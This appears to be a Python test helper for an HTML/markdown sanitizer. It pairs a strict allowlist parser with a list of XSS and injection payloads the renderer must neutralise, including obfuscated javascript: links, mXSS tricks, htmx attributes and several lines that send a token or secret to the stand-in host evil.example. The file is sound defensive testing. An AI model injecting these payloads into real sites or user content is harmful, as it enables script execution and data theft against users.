"""A strict reader of rendered HTML, and texts that try to get past it."""

from __future__ import annotations

from html.parser import HTMLParser

ELEMENTS = frozenset(
    [
        *("a", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "span"),
        *("strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    ]
)
MATH_ELEMENTS = frozenset(
    [
        *("math", "mfrac", "mi", "mn", "mo", "mover", "mphantom", "mroot", "mrow", "mspace"),
        *("msqrt", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder"),
        "munderover",
    ]
)
MATH_ATTRIBUTES = frozenset(
    [
        *("accent", "alttext", "class", "display", "displaystyle", "form", "linethickness"),
        *("lspace", "mathvariant", "maxsize", "minsize", "movablelimits", "rspace"),
        *("scriptlevel", "stretchy", "symmetric", "width"),
    ]
)
ATTRIBUTES = frozenset({"class", "dir", "href", "rel", "start", "target", "title"})
SCHEMES = ("http:", "https:", "mailto:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=token></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<base href=//evil.example/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a()'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</code></pre><script>alert(1)</script>",
    "<div hx-get=/logout hx-trigger=load id=composer>x</div>",
    "<div data-hx-post=/delete hx-on:click=alert(1) ws-connect=/ws _='on load call x()'>x</div>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java&#x09;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1))",
    "[a](\u200bjavascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](//evil.example)",
    "[a](/accounts/logout/)",
    "[a](http://[::1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: https://x.example 'title\" onmouseover=\"alert(1)'",
    '[a](https://x.example "t\\" onclick=\\"alert(1)")',
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '![" onerror="alert(1)](https://x.example/a)',
    "[![a](https://x.example/p.png)](https://y.example)",
    "![a ![b](https://x.example/1) c](https://x.example/2)",
    '```"><script>alert(1)</script>\ncode\n```',
    '~~~ html onload="alert(1)\n<script>alert(1)</script>\n~~~',
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| " onclick="x |\n|:--:|\n| ![](https://x.example) |',
    "- <b onmouseover=alert(1)>\n  1. <script>x</script>",
    "> <embed src=//evil.example>\n> <object data=x>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "`<script>`",
    "{{7*7}} {% load x %} </textarea><script>",
    "<!-- <img src=x> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=/accounts/logout/>x</a> <a href=//evil.example>x</a> <a href=javascript:x()>x</a>",
    "<a href='https://x.example' style='position:fixed' class='btn'>x</a>",
    "\x00<scr\x00ipt>\ud800",
    r"\(\text{<img src=x onerror=alert(1)>}\)",
    r"\(x\text{</mtext></math><script>alert(1)</script>}\)",
    r"\[\href{javascript:alert(1)}{x}\]",
    r"\[\unknown{<img src=x onerror=alert(1)>}\]",
    '$$a" onclick="alert(1)$$',
    r"$$\operatorname{<script>alert(1)</script>}$$",
    "<math href=javascript:alert(1)><maction actiontype=a xlink:href=data:,x>y</maction>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi><img src=x onerror=alert(1)></mi><mtext><style><!--</style><a title='--&gt;'>",
    "<math><mi style='position:fixed' id=composer onclick=alert(1) hx-get=/x>x</mi></math>",
]


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS | MATH_ELEMENTS, tag
        for name, value in attrs:
            assert name in (MATH_ATTRIBUTES if tag in MATH_ELEMENTS else ATTRIBUTES), (tag, name)
            assert name != "href" or (value or "").lower().startswith(SCHEMES), value
            assert name != "dir" or value == "auto", value
            assert (
                name != "class"
                or set((value or "").split())
                <= {
                    *("code", "continued", "table", "task", "plain", "formula"),
                    *("ams-align", "boxed", "cases"),
                    *("align-left", "align-center", "align-right", "long"),
                }
                or (value or "").startswith("hl-")
            ), value
        if tag == "a":
            given = dict(attrs)
            assert given["rel"] == "noopener noreferrer nofollow"
            assert given["target"] == "_blank"
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_inert(html: str) -> None:
    """Fail unless ``html`` is whole in itself and made of nothing but what we allow."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    html.encode()
